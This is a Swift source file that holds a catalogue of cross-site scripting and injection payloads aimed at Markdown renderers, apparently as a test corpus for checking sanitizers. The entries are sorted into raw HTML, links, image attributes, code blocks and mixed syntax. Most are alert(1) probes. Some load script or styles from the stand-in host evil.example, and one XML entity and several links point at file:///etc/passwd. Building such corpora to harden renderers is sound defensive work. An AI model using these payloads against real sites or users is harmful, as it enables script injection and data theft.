/// Attacks on Markdown renderers, by the part they target.
enum Payloads {
    static let all = html + links + attributes + code + mixtures

    private static let html = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>1</script>'>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<input onfocus=alert(1) autofocus>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<style>@import '//evil.example/x.css'</style>",
        "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=//evil.example/>",
        "<a href=javascript:alert(1)>x</a>", "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>", "</p></div><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<xss style=\"behavior:url(x.htc)\">", "<img src=\"x\u{0}\" onerror=alert(1)>",
        "<\u{0}script>alert(1)</script>", "<\u{301}img src=x onerror=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script>alert(1)\\</script>",
    ]

    private static let links = [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)", "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))", "[x](\u{1}javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](\\\\evil.example)", "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x][r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: <data:text/html,&lt;script&gt;>",
        "javascript://x.example/%0Aalert(1)", "[x](javascript://https://a.example)",
        "[x](http://a.example\" onmouseover=\"alert(1))", "[x](<http://a.example\" onmouseover=\"alert(1)>)",
        "[x](http://a.example/'onclick='alert(1))",
        "https://a.example/\"onmouseover=\"alert(1)", "https://a.example/'><script>alert(1)</script>",
        "www.a.example/\"><img/src=x>", "a@b.example\"onclick=\"x",
        "[x](https://user:pass@evil.example)", "[<script>alert(1)</script>](https://a.example)",
        "[x](mailto:a@b.example?subject=<script>)",
    ]

    private static let attributes = [
        "![\" onload=\"alert(1)](http://a.example/x.png)", "![x](http://a.example/x.png\"onerror=\"alert(1))",
        "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "![x](http://a.example \"t\\\" onload=\\\"alert(1)\")", "[x](http://a.example 't\" onclick=\"alert(1)')",
        "![<img src=x onerror=alert(1)>](http://a.example)",
        "![a](//evil.example/track.png)", "[![a](javascript:x)](javascript:y)",
        "![![x](http://a.example)](http://b.example \"'><script>\")",
        "[x](https://a.example \"&quot;onmouseover=alert(1)&quot;\")", "![&quot;onload=alert(1)](https://a.example)",
    ]

    private static let code = [
        "```\"><script>alert(1)</script>\nx\n```", "```js\" onload=\"alert(1)\nx\n```",
        "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
        "```html\n</code></pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`",
        "~~~&quot;onclick=x\n~~~", "```svg\n<svg onload=alert(1)>\n```",
        "    </code></pre><img src=x onerror=alert(1)>", "```vega\n{\"data\":{\"url\":\"//evil.example\"}}\n```",
    ]

    private static let mixtures = [
        "$\\href{javascript:alert(1)}{x}$", "$$\\html{<img src=x onerror=alert(1)>}$$",
        "|<img src=x onerror=alert(1)>|\n|-|\n|`|<script>|", "- [x] <input onfocus=alert(1)>",
        "> <script>\n> alert(1)\n</script>", "*<b>*</b><script*>", "~~<s~~cript>", "# <h1 onclick=x>",
        "[^1]\n\n[^1]: <script>alert(1)</script>", "a\u{202E}<script>\u{2066}b",
    ]
}
